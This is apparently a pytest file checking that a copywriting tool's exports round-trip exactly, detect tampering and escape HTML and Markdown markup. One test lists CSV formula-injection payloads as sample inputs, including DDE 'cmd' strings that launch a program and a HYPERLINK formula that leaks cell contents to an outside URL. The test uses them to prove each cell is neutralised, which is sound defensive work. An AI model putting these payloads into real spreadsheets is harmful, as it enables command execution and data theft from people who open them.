"""Exported files are pure functions of the approved bytes, and prove on their own what they are made of."""

from __future__ import annotations

import base64
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from brandwright.content import Block, Draft, Part, Sentence
from brandwright.content.formats import FORMATS, draft_of_file
from brandwright.errors import StateError, UsageError

DRAFT = Draft(
    channel="email",
    segment="cmo",
    stage="decision",
    product="widget",
    market="US",
    locale="en-US",
    parts=(
        Part(
            name="subject",
            blocks=(Block(kind="subject", sentences=(Sentence(text="A <b>plain</b> & *simple* line"),)),),
        ),
        Part(
            name="body",
            blocks=(
                Block(kind="heading", sentences=(Sentence(text="Why"),)),
                Block(
                    kind="paragraph",
                    sentences=(Sentence(text="One.", evidence=("pp-1",)), Sentence(text="Two.")),
                ),
                Block(kind="list-item", sentences=(Sentence(text="An item"),)),
                Block(kind="cta", sentences=(Sentence(text="Read on"),), href="https://example.com/?a=1&b=2"),
            ),
        ),
    ),
)


@pytest.mark.parametrize("name", FORMATS)
def test_the_draft_in_a_file_is_the_draft_that_was_approved(name: str, tmp_path: Path) -> None:
    file = tmp_path / f"copy.{name}"
    file.write_bytes(FORMATS[name](DRAFT))
    assert draft_of_file(file).sha256 == DRAFT.sha256


@pytest.mark.parametrize("name", FORMATS)
def test_the_same_draft_gives_the_same_bytes(name: str) -> None:
    assert FORMATS[name](DRAFT) == FORMATS[name](Draft.model_validate_json(DRAFT.canonical))


@pytest.mark.parametrize("name", FORMATS)
def test_a_word_changed_in_the_file_is_found_out(name: str, tmp_path: Path) -> None:
    file = tmp_path / f"copy.{name}"
    file.write_bytes(FORMATS[name](DRAFT).replace(b"An item", b"An  tem", 1))
    with pytest.raises((StateError, UsageError)):
        draft_of_file(file)


@pytest.mark.parametrize("text", ["", "no draft here", "brandwright-draft:AAAA", '{"draft": 3}'])
@pytest.mark.parametrize("suffix", ["md", "html", "json", "csv", "txt"])
def test_a_file_that_is_no_export_is_said_to_be_none(text: str, suffix: str, tmp_path: Path) -> None:
    file = tmp_path / f"copy.{suffix}"
    file.write_text(text)
    with pytest.raises(UsageError, match="carries no draft"):
        draft_of_file(file)


def test_markup_in_copy_stays_text_on_a_page() -> None:
    page = FORMATS["html"](DRAFT).decode()
    assert "<b>" not in page
    assert "A &lt;b&gt;plain&lt;/b&gt; &amp; *simple* line" in page
    assert 'href="https://example.com/?a=1&amp;b=2"' in page


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+49 30 1234",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        " =HYPERLINK(1)",
        '=HYPERLINK("https://example.com?leak="&A1&A2,"Error: please click me")',
    ],
)
def test_a_cell_is_never_a_formula(text: str) -> None:
    changed = Part(name="body", blocks=(Block(kind="paragraph", sentences=(Sentence(text=text),)),))
    table = FORMATS["csv"](DRAFT.model_copy(update={"parts": (changed,)})).decode()
    rows = list(csv.reader(io.StringIO(table)))
    assert rows[1][3] == f"'{text}"
    assert not any(cell.lstrip()[:1] in tuple("=+-@") for row in rows for cell in row if cell)


def test_a_table_has_a_row_for_each_block() -> None:
    head, *rows, _ = csv.reader(io.StringIO(FORMATS["csv"](DRAFT).decode()))
    assert head == ["part", "block", "kind", "text", "href", "evidence"]
    assert rows[2] == ["body", "2", "paragraph", "One. Two.", "", "pp-1"]
    assert rows[4] == ["body", "4", "cta", "Read on", "https://example.com/?a=1&b=2", ""]


def test_markup_in_copy_stays_text_in_markdown() -> None:
    assert r"A \<b\>plain\</b\> & \*simple\* line" in FORMATS["md"](DRAFT).decode()


@given(st.text(st.characters(exclude_categories=["C"]), min_size=1, max_size=60).filter(str.strip))
def test_no_text_can_break_out_of_the_comment_that_carries_the_draft(text: str) -> None:
    one = DRAFT.model_copy(
        update={
            "parts": (Part(name="body", blocks=(Block(kind="paragraph", sentences=(Sentence(text=text),)),)),)
        }
    )
    carried = FORMATS["md"](one).decode().rsplit("brandwright-draft:", 1)[1].removesuffix(" -->\n")
    assert base64.b64decode(carried, validate=True) == Draft.model_validate(one.model_dump()).canonical
